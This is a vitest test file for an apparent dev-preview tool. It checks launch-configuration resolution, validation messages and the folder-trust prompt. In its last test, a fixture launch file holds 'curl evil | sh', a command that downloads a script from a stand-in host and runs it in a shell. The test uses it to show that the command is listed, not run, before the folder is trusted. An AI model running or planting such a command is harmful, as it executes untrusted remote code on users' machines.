import { describe, expect, it } from 'vitest'
import { resolveLaunch } from '../../../src/main/core/preview/detect'
import { folderInventory } from '../../../src/main/core/trust/inventory'
import { tempDir, writeTree } from '../../support/temp'

const project = (files: Record<string, string>): string => writeTree(tempDir('hotaru-launch-'), files)

describe('launch configurations', () => {
  it('takes the named configuration of .hotaru/launch.json, else its first', () => {
    const root = project({
      '.hotaru/launch.json': `{
        // comments are allowed
        "configurations": [
          { "name": "web", "command": "npm run dev -- --port $PORT", "cwd": "apps/web", "env": { "A": "1" } },
          { "name": "docs", "static": "site", "port": 4321, "url": "http://localhost:\${port}/docs/" },
        ],
      }`,
      'apps/web/.keep': '',
      'site/index.html': '',
    })
    expect(resolveLaunch(root)).toMatchObject({ name: 'web', source: 'launch.json', command: 'npm run dev -- --port $PORT', env: { A: '1' }, runsFolderCode: true })
    expect(resolveLaunch(root).cwd).toMatch(/apps\/web$/)
    expect(resolveLaunch(root, 'docs')).toMatchObject({ name: 'docs', port: 4321, url: 'http://localhost:${port}/docs/', runsFolderCode: false })
    expect(() => resolveLaunch(root, 'api')).toThrow('.hotaru/launch.json has no configuration "api" (it has "web", "docs")')
  })

  it('names the file and the JSON path of what is wrong', () => {
    const bad = (text: string): string => {
      try {
        resolveLaunch(project({ '.hotaru/launch.json': text }))
      } catch (error) {
        return (error as Error).message
      }
      return 'no error'
    }
    expect(bad('{"configurations":[]}')).toBe('.hotaru/launch.json: configurations: must not be empty')
    expect(bad('{"configurations":[{"name":"a","command":"x","port":"80"}]}')).toBe('.hotaru/launch.json: configurations[0].port: expected number, got string')
    expect(bad('{"configurations":[{"name":"a"}]}')).toBe('.hotaru/launch.json: configurations[0]: set exactly one of "command" and "static"')
    expect(bad('{"configurations":[{"name":"a","command":"x"},{"name":"a","command":"y"}]}')).toBe('.hotaru/launch.json: configurations[1].name: "a" is used twice')
    expect(bad('{"configurations": [')).toMatch(/^\.hotaru\/launch\.json:1:\d+: syntax error/)
    expect(bad('{"configurations":[{"name":"a","command":"x","cwd":"../out"}]}')).toMatch(/\.\.\/out/)
  })

  it('detects a dev or start script (Vite and Next told the port and loopback host), a Vite config, then an index.html', () => {
    expect(resolveLaunch(project({ 'package.json': JSON.stringify({ scripts: { dev: 'vite', start: 'node s.js' } }) }))).toMatchObject({
      name: 'dev',
      source: 'vite',
      command: 'npm run dev -- --port "$PORT" --strictPort --host 127.0.0.1',
    })
    expect(resolveLaunch(project({ 'package.json': JSON.stringify({ scripts: { dev: 'next dev' } }), 'pnpm-lock.yaml': '' }))).toMatchObject({
      source: 'next',
      command: 'pnpm run dev -p "$PORT" -H 127.0.0.1',
    })
    expect(resolveLaunch(project({ 'package.json': JSON.stringify({ scripts: { start: 'node server.js' } }), 'yarn.lock': '' }))).toMatchObject({ name: 'start', source: 'package.json', command: 'yarn run start' })
    expect(resolveLaunch(project({ 'public/index.html': '<p>' }))).toMatchObject({ name: 'static', source: 'static', runsFolderCode: false })
    expect(() => resolveLaunch(project({ 'README.md': '' }))).toThrow(/^nothing to preview/)
  })

  it('the trust prompt lists the commands of a launch file, which run nothing until the folder is trusted', async () => {
    const root = project({ '.hotaru/launch.json': '{"configurations":[{"name":"web","command":"curl evil | sh"},{"name":"docs","static":"site"}]}' })
    const items = await folderInventory(root)
    expect(items.map((item) => `${item.kind} ${item.detail}`)).toEqual(['shell preview "web": curl evil | sh'])
  })
})
